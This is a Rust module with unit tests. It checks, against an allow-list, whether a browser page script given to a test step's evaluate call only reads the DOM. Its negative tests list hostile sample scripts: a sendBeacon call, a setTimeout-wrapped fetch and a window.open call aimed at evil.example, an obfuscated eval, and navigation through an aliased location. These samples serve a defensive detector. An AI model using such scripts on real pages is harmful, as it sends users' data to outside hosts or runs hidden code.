//! Whether a page script (the function or string step code gives `page.evaluate`,
//! `page.waitForFunction`, `locator.evaluate`, ...) only reads the page. A script that only
//! reads may run again for the mutation proof and does not make a step "act"; any other script
//! may change the page, send a request or run code the reader cannot see, so it keeps being
//! refused there. The test is an allow-list: every call in the script must be one of
//! [`READING_CALLS`], and it may assign, update or delete nothing but its own local names. A
//! deny-list of writes would let any write it forgot (`el.click()`, `fetch(...)`) through.
//!
//! Main function: [`only_reads`].

use oxc_allocator::Allocator;
use oxc_ast::ast::{
    Argument, AssignmentExpression, CallExpression, Expression, IdentifierReference,
    ImportExpression, NewExpression, StaticMemberExpression, TaggedTemplateExpression,
    UnaryExpression, UpdateExpression,
};
use oxc_ast_visit::{Visit, walk};
use oxc_parser::Parser;
use oxc_span::SourceType;

/// The step API's methods whose page script may be one that only reads, and then runs in a
/// proof run like any read: `page.evaluate`, `locator.evaluate(All)`, `$eval`, `$$eval` and
/// `page.waitForFunction`. Others (`addInitScript`, `setContent`, `evaluateHandle`) are refused
/// there whatever their script does.
pub(crate) const READING_SCRIPTS: &[&str] = &[
    "evaluate",
    "evaluateAll",
    "$eval",
    "$$eval",
    "waitForFunction",
];

/// The methods and functions a reading page script may call: DOM queries and reads, and the
/// string, array and number functions that compute with what was read. None of them changes
/// the document, the storage or the history, or sends anything.
const READING_CALLS: &[&str] = &[
    // The DOM's queries and reads.
    "querySelector",
    "querySelectorAll",
    "getElementById",
    "getElementsByClassName",
    "getElementsByTagName",
    "getElementsByName",
    "closest",
    "matches",
    "contains",
    "getAttribute",
    "hasAttribute",
    "getAttributeNames",
    "getComputedStyle",
    "getBoundingClientRect",
    "checkVisibility",
    "item",
    // Strings.
    "includes",
    "startsWith",
    "endsWith",
    "indexOf",
    "lastIndexOf",
    "trim",
    "trimStart",
    "trimEnd",
    "toLowerCase",
    "toUpperCase",
    "replace",
    "replaceAll",
    "split",
    "slice",
    "substring",
    "charAt",
    "match",
    "test",
    "normalize",
    "padStart",
    "padEnd",
    "toString",
    "toFixed",
    "String",
    "Number",
    "Boolean",
    "parseInt",
    "parseFloat",
    "isNaN",
    // Arrays.
    "from",
    "isArray",
    "map",
    "filter",
    "some",
    "every",
    "find",
    "findIndex",
    "reduce",
    "join",
    "concat",
    "flat",
    "flatMap",
    "at",
    "keys",
    "values",
    "entries",
    "forEach",
];

/// The reading calls that call a function they are given, and the position of that argument:
/// it must be written out in the script (`items.map((li) => li.textContent)`), because a
/// function named by reference may be anything the page holds (`urls.forEach(navigator.sendBeacon,
/// navigator)`, `[code].forEach(setTimeout)`).
const CALLBACK_AT: &[(&str, usize)] = &[
    ("map", 0),
    ("filter", 0),
    ("some", 0),
    ("every", 0),
    ("find", 0),
    ("findIndex", 0),
    ("reduce", 0),
    ("forEach", 0),
    ("flatMap", 0),
    ("from", 1),
    ("replace", 1),
    ("replaceAll", 1),
];

/// Whether an argument given where a reading call expects a function is one the script writes
/// out, or (for `replace`) a plain string the call inserts.
fn written_out(argument: &Argument<'_>) -> bool {
    matches!(
        argument,
        Argument::ArrowFunctionExpression(_)
            | Argument::FunctionExpression(_)
            | Argument::StringLiteral(_)
            | Argument::TemplateLiteral(_)
    )
}

/// Whether `script` (the source of a function, or of an expression or statements given as a
/// string) only reads the page. Source that does not parse cannot be shown to read.
pub(crate) fn only_reads(script: &str) -> bool {
    // A function's source is read as an expression (`function () {}` alone is no statement);
    // a string of statements as it is.
    [format!("({script}\n)"), script.to_owned()]
        .iter()
        .find_map(|source| {
            let allocator = Allocator::default();
            let parsed = Parser::new(&allocator, source, SourceType::script()).parse();
            if parsed.panicked || parsed.diagnostics.has_errors() {
                return None;
            }
            let mut walk = Walk { writes: false };
            walk.visit_program(&parsed.program);
            Some(!walk.writes)
        })
        .unwrap_or(false)
}

/// Whether `object` is the page's `location` (`location`, `window.location`,
/// `document.location`), whose methods navigate.
fn on_location(object: &Expression<'_>) -> bool {
    match object.without_parentheses() {
        Expression::Identifier(id) => id.name.as_str() == "location",
        Expression::StaticMemberExpression(m) => m.property.name.as_str() == "location",
        _ => false,
    }
}

/// The walk of a page script: anything but a read sets `writes`.
struct Walk {
    writes: bool,
}

impl<'a> Visit<'a> for Walk {
    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        let name = match it.callee.without_parentheses() {
            Expression::Identifier(id) => Some(id.name.as_str()),
            // `location.replace(url)` navigates, whatever a string's `replace` does.
            Expression::StaticMemberExpression(m) if on_location(&m.object) => {
                self.writes = true;
                None
            }
            Expression::StaticMemberExpression(m) => Some(m.property.name.as_str()),
            // `(() => ...)()` calls the code's own function, walked below.
            Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_) => None,
            _ => {
                self.writes = true;
                None
            }
        };
        if name.is_some_and(|name| !READING_CALLS.contains(&name)) {
            self.writes = true;
        }
        if let Some(name) = name
            && let Some((_, at)) = CALLBACK_AT.iter().find(|(call, _)| *call == name)
            && it.arguments.get(*at).is_some_and(|arg| !written_out(arg))
        {
            self.writes = true;
        }
        walk::walk_call_expression(self, it);
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        if it.property.name.as_str() == "location" {
            // `window.location` as a value of its own: held in a name, its methods navigate
            // where the walk no longer sees that they are location's.
            self.writes = true;
        }
        if on_location(&it.object) {
            // `location.href`, `window.location.pathname`: a read of one of its properties.
            return;
        }
        walk::walk_static_member_expression(self, it);
    }

    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
        // `location` as a value of its own (`const l = location`), for the same reason; its
        // properties are read above without coming here.
        if it.name.as_str() == "location" {
            self.writes = true;
        }
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        // Only a local name may be assigned: `x = ...`, never `el.textContent = ...`.
        if it
            .left
            .as_simple_assignment_target()
            .is_none_or(|target| target.as_member_expression().is_some())
        {
            self.writes = true;
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_update_expression(&mut self, it: &UpdateExpression<'a>) {
        if it.argument.as_member_expression().is_some() {
            self.writes = true;
        }
        walk::walk_update_expression(self, it);
    }

    fn visit_unary_expression(&mut self, it: &UnaryExpression<'a>) {
        if it.operator.as_str() == "delete" {
            self.writes = true;
        }
        walk::walk_unary_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        // `new XMLHttpRequest()`, `new Image()` (whose `src` loads), `new Function(...)`.
        self.writes = true;
        walk::walk_new_expression(self, it);
    }

    fn visit_tagged_template_expression(&mut self, it: &TaggedTemplateExpression<'a>) {
        self.writes = true;
        walk::walk_tagged_template_expression(self, it);
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        self.writes = true;
        walk::walk_import_expression(self, it);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_that_read_the_dom_and_compute_only_read() {
        for script in [
            "() => document.body.innerText.includes('2 items left')",
            "() => document.querySelector('.todo-count').textContent.trim() === '2 items left'",
            "(el) => el.textContent",
            "document.title",
            "() => { const items = Array.from(document.querySelectorAll('li')); let n = 0; \
             n = items.filter((li) => li.classList.contains('done')).length; return n === 2; }",
            "async function () { return getComputedStyle(document.body).color; }",
            "() => location.href",
            "() => window.location.pathname.startsWith('/todos')",
            "() => document.title.replace('x', 'y')",
            "() => Array.from(document.querySelectorAll('li'), (li) => li.textContent)",
        ] {
            assert!(only_reads(script), "{script}");
        }
    }

    #[test]
    fn scripts_that_write_act_send_or_hide_their_calls_do_not() {
        for script in [
            "() => { document.querySelector('.todo-count').textContent = '2 items left'; }",
            "() => document.querySelector('#add').click()",
            "() => fetch('/api/todos', { method: 'POST' })",
            "() => navigator.sendBeacon('/log', 'x')",
            "() => localStorage.setItem('k', 'v')",
            "() => document.body.append('2 items left')",
            "() => { window.count++; }",
            "() => { delete window.app; }",
            "() => new Image().src",
            "() => window['ev' + 'al']('1')",
            "() => import('/x.js')",
            "() => String.raw`x`",
            "() => { const o = {}; o.x = 1; }",
            "() => document.querySelector('li').dispatchEvent(new Event('click'))",
            "() => location.replace('/elsewhere')",
            "() => window.location.replace('/elsewhere')",
            "() => ['https://evil.example/x'].forEach(navigator.sendBeacon, navigator)",
            "() => ['fetch(\"https://evil.example/\")'].forEach(setTimeout)",
            "() => Array.from(['https://evil.example/'], window.open)",
            "() => 'a'.replace('a', alert)",
            "() => { const l = location; l.replace('https://evil.example/'); }",
            "() => { const l = window.location; l.assign('/elsewhere'); }",
            "() => {",
        ] {
            assert!(!only_reads(script), "{script}");
        }
    }
}
